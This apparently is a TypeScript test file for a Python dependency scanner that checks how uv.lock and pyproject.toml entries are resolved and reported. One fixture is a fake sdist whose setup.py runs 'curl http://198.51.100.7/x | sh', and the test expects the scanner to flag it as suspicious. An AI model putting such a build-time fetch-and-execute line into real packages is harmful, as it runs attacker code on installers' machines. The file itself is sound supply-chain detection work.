// Projects laid out as real ones are: a lock beside its manifest, where the lock holds what each
// target really installs. Every locked version some target installs is checked; none is dropped
// because another entry of the same name points at the same manifest line.

import { createHash } from 'node:crypto';
import { startIndexServer } from './helpers/index-server.js';
import { makeSdist, makeWheel } from './helpers/archives.js';
import { makeProject, runCli } from './helpers/project.js';

const sha = (d: Uint8Array) => createHash('sha256').update(d).digest('hex');

type Target = { python: string; kind: string; version?: string; file?: string; skipped?: boolean };
type Dep = { name: string; version: string; status: string; reason: string; via?: string[]; sources: Array<{ path: string; line: number }>; targets: Target[] };

const oldDocs = makeWheel('docsgen', '8.1.3');
// the version only newer Pythons get is an sdist whose build code must be read
const newDocs = makeSdist('docsgen', '8.2.3', { 'setup.py': 'import os\nos.system("curl http://198.51.100.7/x | sh")\nfrom setuptools import setup\nsetup()\n' });

function uvLock(base: string): string {
  return `version = 1
revision = 3
requires-python = ">=3.10"
resolution-markers = [
    "python_full_version >= '3.11'",
    "python_full_version < '3.11'",
]

[[package]]
name = "app"
version = "0.1.0"
source = { editable = "." }
dependencies = [
    { name = "docsgen", version = "8.1.3", source = { registry = "${base}/simple" }, marker = "python_full_version < '3.11'" },
    { name = "docsgen", version = "8.2.3", source = { registry = "${base}/simple" }, marker = "python_full_version >= '3.11'" },
]

[[package]]
name = "docsgen"
version = "8.1.3"
source = { registry = "${base}/simple" }
resolution-markers = [
    "python_full_version < '3.11'",
]
wheels = [
    { url = "${base}/files/${oldDocs.filename}", hash = "sha256:${sha(oldDocs.data)}" },
]

[[package]]
name = "docsgen"
version = "8.2.3"
source = { registry = "${base}/simple" }
resolution-markers = [
    "python_full_version >= '3.11'",
]
sdist = { url = "${base}/files/${newDocs.filename}", hash = "sha256:${sha(newDocs.data)}" }
`;
}

describe('a lock beside its manifest', () => {
  let server: Awaited<ReturnType<typeof startIndexServer>>;
  beforeAll(async () => {
    server = await startIndexServer({ projects: { docsgen: [oldDocs, newDocs] } });
  });
  afterAll(async () => {
    await server.close();
  });

  it('uv.lock with one name at two versions for different Pythons: each target gets its own, both are checked', async () => {
    const pyproject = '[project]\nname = "app"\nversion = "0.1.0"\nrequires-python = ">=3.10"\ndependencies = [\n    "docsgen>=8",\n]\n';
    for (const files of <Array<Record<string, string>>>[{ 'pyproject.toml': pyproject, 'uv.lock': uvLock(server.url) }, { 'uv.lock': uvLock(server.url) }]) {
      const project = makeProject(files);
      try {
        const run = await runCli(['scan', '.', '--index-url', server.indexUrl, '--format', 'json', '--python-version', '3.10,3.12', '--platform', 'linux'], { cwd: project.dir });
        const deps = (JSON.parse(run.stdout).dependencies as Dep[]).filter((d) => d.name === 'docsgen');
        const versions = deps.map((d) => d.version).sort();
        expect(versions).toEqual(['8.1.3', '8.2.3']);
        const newer = deps.find((d) => d.version === '8.2.3')!;
        expect(newer.status).toBe('suspicious');
        expect(run.code).toBe(1);
        if (files['pyproject.toml']) expect(newer.sources[0]).toMatchObject({ path: 'pyproject.toml', line: 6 });
      } finally {
        project.cleanup();
      }
    }
  });

  it('one name at one version, reached twice, stays one verdict', async () => {
    const lock = uvLock(server.url).replace(/version = "8\.2\.3", source/, 'version = "8.1.3", source');
    const trimmed = lock.slice(0, lock.lastIndexOf('[[package]]'));
    const project = makeProject({ 'pyproject.toml': '[project]\nname = "app"\nversion = "0.1.0"\ndependencies = ["docsgen"]\n', 'uv.lock': trimmed });
    try {
      const run = await runCli(['scan', '.', '--index-url', server.indexUrl, '--format', 'json', '--python-version', '3.10,3.12', '--platform', 'linux'], { cwd: project.dir });
      const deps = (JSON.parse(run.stdout).dependencies as Dep[]).filter((d) => d.name === 'docsgen');
      expect(deps.map((d) => d.version)).toEqual(['8.1.3']);
      expect(run.code).toBe(0);
    } finally {
      project.cleanup();
    }
  });

  it('a package only the lock names has its chain from the lock, and one markers exclude everywhere keeps its locked version', async () => {
    const helper = makeWheel('docshelper', '1.0');
    const lock = `version = 1
revision = 3
requires-python = ">=3.10"

[[package]]
name = "app"
version = "0.1.0"
source = { editable = "." }
dependencies = [
    { name = "docsgen" },
    { name = "winonly", marker = "sys_platform == 'win32'" },
]

[[package]]
name = "docsgen"
version = "8.1.3"
source = { registry = "${server.url}/simple" }
dependencies = [{ name = "docshelper" }]
wheels = [{ url = "${server.url}/files/${oldDocs.filename}", hash = "sha256:${sha(oldDocs.data)}" }]

[[package]]
name = "docshelper"
version = "1.0"
source = { registry = "${server.url}/simple" }
wheels = [{ url = "${server.url}/files/${helper.filename}", hash = "sha256:${sha(helper.data)}" }]

[[package]]
name = "winonly"
version = "3.2"
source = { registry = "${server.url}/simple" }
wheels = [{ url = "${server.url}/files/winonly-3.2-py3-none-win_amd64.whl", hash = "sha256:${'b'.repeat(64)}" }]
`;
    server.update({ projects: { docsgen: [oldDocs, newDocs], docshelper: [helper] } });
    const project = makeProject({ 'pyproject.toml': '[project]\nname = "app"\nversion = "0.1.0"\ndependencies = ["docsgen", "winonly; sys_platform == \'win32\'"]\n', 'uv.lock': lock });
    try {
      const run = await runCli(['scan', '.', '--index-url', server.indexUrl, '--format', 'json', '--python-version', '3.12', '--platform', 'linux'], { cwd: project.dir });
      const deps = Object.fromEntries((JSON.parse(run.stdout).dependencies as Dep[]).map((d) => [d.name, d]));
      expect(deps.docshelper.via).toEqual(['app', 'docsgen', 'docshelper']);
      expect(deps.docshelper.sources[0]).toMatchObject({ path: 'uv.lock', line: 22 });
      expect(deps.winonly).toMatchObject({ status: 'skipped', version: '3.2' });
    } finally {
      project.cleanup();
    }
  });
});

